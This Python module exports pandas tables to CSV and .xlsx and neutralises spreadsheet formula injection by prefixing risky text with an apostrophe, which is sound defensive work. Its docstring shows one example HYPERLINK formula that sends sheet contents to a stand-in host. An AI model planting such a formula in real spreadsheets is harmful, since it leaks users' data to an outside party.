"""Tables written for spreadsheets (CSV and .xlsx), with text that a spreadsheet would run as a formula made inert.

A spreadsheet evaluates a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and some do after a leading tab
or carriage return): a permit reference typed as ``=HYPERLINK("http://x.example/?d="&A1,"Open permit")`` would
become a live link that sends the sheet's contents away. Every text cell, column name and index label that
begins so is written with a leading apostrophe (the usual prefixing rule), which makes it plain text in every
common spreadsheet. Numbers are never touched, and neither is text that is itself a plain number (``-0.5``):
a real negative number stays a number. Every table the workbench exports goes through :func:`table_csv` or
:func:`tables_xlsx`.
"""

from __future__ import annotations

import io
import re
from collections.abc import Mapping

import pandas as pd

__all__ = ["FORMULA_STARTS", "neutralised", "neutralised_text", "table_csv", "tables_xlsx"]

#: first characters that make a spreadsheet cell a formula (or, after tab and carriage return, can)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")
_MAX_SHEET_NAME = 31  # Excel's limit on a sheet name


def neutralised_text(value):
    """``value`` with a leading apostrophe when it is text a spreadsheet would take as a formula; anything else
    (numbers, plain-number text, other text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def neutralised(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` whose text cells, column names, index labels and index name are neutralised."""
    out = table.copy()
    for col in out.columns:
        if not pd.api.types.is_numeric_dtype(out[col].dtype):  # text (object or string dtype), mixed
            out[col] = out[col].map(neutralised_text)
    out.columns = _labels(out.columns)
    out.index = _labels(out.index)
    return out


def _labels(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        raise TypeError("tables with a MultiIndex are not written: flatten the labels first")
    values = index if pd.api.types.is_numeric_dtype(index.dtype) else index.map(neutralised_text)
    return pd.Index(values, name=neutralised_text(index.name))


def table_csv(table: pd.DataFrame) -> str:
    """The table as CSV text (the index written when it has a name), neutralised. Lines end in CR LF (RFC 4180):
    the writer then quotes any field holding a carriage return or a line feed, which a spreadsheet would
    otherwise take as the start of a new row (and that row's first cell as a formula)."""
    buf = io.StringIO()
    neutralised(table).to_csv(buf, index=table.index.name is not None, lineterminator="\r\n")
    return buf.getvalue()


def tables_xlsx(tables: Mapping[str, pd.DataFrame]) -> bytes:
    """The tables as one .xlsx workbook, a sheet per table (named by its key, cut to 31 characters), neutralised
    (openpyxl stores text starting with "=" as a formula: after the prefix, none does)."""
    import openpyxl  # a dependency of the package, needed only here

    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, table in tables.items():
        sheet = book.create_sheet(title=str(name)[:_MAX_SHEET_NAME])
        safe = neutralised(table)
        with_index = table.index.name is not None
        header = ([safe.index.name] if with_index else []) + list(safe.columns)
        sheet.append([str(h) for h in header])
        for label, row in zip(safe.index, safe.itertuples(index=False), strict=True):
            cells = ([label] if with_index else []) + [_cell(v) for v in row]
            sheet.append(cells)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _cell(value):
    """A value openpyxl can store: NaN and None as empty cells, numpy scalars as Python numbers."""
    if value is None or (isinstance(value, float) and value != value):
        return None
    if hasattr(value, "item") and not isinstance(value, str):
        return value.item()
    return value
